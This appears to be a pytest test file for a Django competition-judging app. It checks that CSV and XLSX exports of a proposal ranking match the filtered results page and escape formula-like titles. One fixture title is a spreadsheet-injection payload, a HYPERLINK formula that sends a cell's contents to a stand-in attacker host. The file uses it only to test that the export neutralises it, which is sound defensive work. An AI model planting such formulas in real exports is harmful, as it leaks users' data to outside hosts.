"""Exporting the ranking: the CSV and the XLSX hold exactly the rows the results page shows for the same
filters, under a dated filename, and a title that looks like a formula stays text."""

import csv
import io

import openpyxl
import pytest
from bs4 import BeautifulSoup
from django.urls import reverse
from django.utils import timezone

from judging.exports import escape_formula
from judging.selectors.confidence import with_chances
from judging.selectors.ranking import challenge_ranking
from submissions.models import ProposalStatus as S
from tests.factories.judging import assign, score
from tests.factories.submissions import make_proposal

HEADER = [
    "Rank",
    "Reference",
    "Title",
    "Organisation",
    "Status",
    "Reviews",
    "Raw mean (0-100)",
    "Normalised score",
    "Spread (points)",
    "Check",
    "Chance of the top 3 (%)",
    "Normalised score, interval low",
    "Normalised score, interval high",
    "Close call",
    "Impact mean (0-5)",
    "Delivery mean (0-5)",
]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def url(name: str, *args) -> str:
    return reverse(f"judging_admin:{name}", args=args)


@pytest.fixture
def ranked(scene, client):
    """Three reviewed proposals and one without a review. judges[0] totals 40, 20 and 60 (the last on EVIL,
    in moderation); judges[1] 100, 80, 66.7. Spreads 60, 60, 6.7: the first two are flagged."""
    harsh, lenient = scene.judges
    evil = make_proposal(scene.challenge, title=EVIL, status=S.MODERATION)
    make_proposal(scene.challenge, title="+44 helpline")
    score(scene.review, 2, 2)
    score(assign(scene.proposal, lenient), 5, 5)
    score(assign(scene.other_proposal, harsh), 1, 1)
    score(scene.other_proposal.assignments.get(judge=lenient).review, 4, 4)
    score(assign(evil, harsh), 3, 3)
    score(assign(evil, lenient), 4, 2)
    client.force_login(scene.manager)
    return scene


def download(client, path: str) -> bytes:
    response = client.get(path)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(client, path: str) -> list[list[str]]:
    content = download(client, path)
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def expected_rows(challenge, keep=lambda row: True) -> list[list[str]]:
    """The ranking service's rows as the CSV writes them: unrounded numbers, empty cells for no value."""

    def cell(value):
        return "" if value is None else str(value)

    return [
        [
            cell(row.rank),
            row.reference,
            escape_formula(row.title),
            row.organisation_name,
            S(row.status).label,
            str(row.review_count),
            cell(row.raw_mean),
            cell(row.normalised),
            cell(row.spread),
            "Check" if row.flagged else "",
            *(cell(value) for value in chance_cells(row)),
            cell(row.criterion_means.get("impact")),
            cell(row.criterion_means.get("delivery")),
        ]
        for row in with_chances(challenge.first_stage, challenge_ranking(challenge=challenge))
        if keep(row)
    ]


def chance_cells(row) -> tuple:
    """The chance as a percentage, the interval and the close-call mark; blank before they are worked out."""
    if row.chance is None:
        return (None, None, None, "")
    return (round(row.chance * 100, 1), row.low, row.high, "Close call: discuss" if row.close_call else "")


def test_the_csv_holds_the_whole_ranking_with_a_dated_filename(ranked, client):
    challenge = ranked.challenge
    path = url("results_export", challenge.pk, "csv")
    response = client.get(path)
    today = timezone.localdate().isoformat()
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == f'attachment; filename="{challenge.slug}-results-{today}.csv"'
    rows = csv_rows(client, path)
    assert rows[0] == HEADER
    assert rows[1:] == expected_rows(challenge)
    assert rows[1][:10] == ["1", ranked.proposal.reference, ranked.proposal.title, ranked.proposal.organisation.name,
                            "In assessment", "2", "70.0", rows[1][7], "60.0", "Check"]  # fmt: skip
    assert float(rows[1][7]) == pytest.approx(0.6489, abs=1e-4)
    assert rows[-1][0] == "" and rows[-1][5] == "0"


@pytest.mark.parametrize("query", ["flagged=1", "status=moderation", "min_reviews=1&status=in_assessment"])
def test_an_export_holds_exactly_the_rows_the_page_shows(ranked, client, query):
    challenge = ranked.challenge
    page = client.get(url("results", challenge.pk) + "?" + query)
    table = BeautifulSoup(page.content, "html.parser").find("table", id="ranking")
    shown = [row.find_all("td")[1].get_text(strip=True) for row in table.tbody.find_all("tr")]
    rows = csv_rows(client, url("results_export", challenge.pk, "csv") + "?" + query)
    assert [row[1] for row in rows[1:]] == shown
    assert shown
    workbook = openpyxl.load_workbook(
        io.BytesIO(download(client, url("results_export", challenge.pk, "xlsx") + "?" + query))
    )
    sheet = workbook.active
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == shown


def test_the_xlsx_opens_with_the_header_and_the_rows(ranked, client):
    challenge = ranked.challenge
    response = client.get(url("results_export", challenge.pk, "xlsx"))
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    today = timezone.localdate().isoformat()
    assert f'filename="{challenge.slug}-results-{today}.xlsx"' in response["Content-Disposition"]
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    ranking = challenge_ranking(challenge=challenge)
    assert len(rows) == 1 + len(ranking) == 5
    first = rows[1]
    assert first[:6] == (1, ranked.proposal.reference, ranked.proposal.title, ranked.proposal.organisation.name,
                         "In assessment", 2)  # fmt: skip
    assert first[6] == pytest.approx(70.0) and first[7] == pytest.approx(0.6489, abs=1e-4)
    assert (first[8], first[9], first[14], first[15]) == (60.0, "Check", 3.5, 3.5)
    assert first[10:14] == (None, None, None, None), "no chance before the figures are worked out"
    evil = next(row for row in sheet.iter_rows(min_row=2) if row[2].value == EVIL)
    assert evil[2].data_type == "s"


def test_a_title_that_looks_like_a_formula_stays_text_in_the_csv(ranked, client):
    rows = csv_rows(client, url("results_export", ranked.challenge.pk, "csv"))
    titles = [row[2] for row in rows[1:]]
    assert "'" + EVIL in titles
    assert EVIL not in titles
    assert "'+44 helpline" in titles
    assert any(row[7].startswith("-") for row in rows[1:]), "negative numbers are numbers, not escaped"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+44 121", "'+44 121"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("Plain title", "Plain title"),
        ("A = B", "A = B"),
    ],
)
def test_escape_formula(value, written):
    assert escape_formula(value) == written


def test_other_formats_are_not_found(ranked, client):
    assert client.get(url("results_export", ranked.challenge.pk, "pdf")).status_code == 404
    assert client.get(f"/admin/judging/{ranked.challenge.pk}/results.json/").status_code == 404
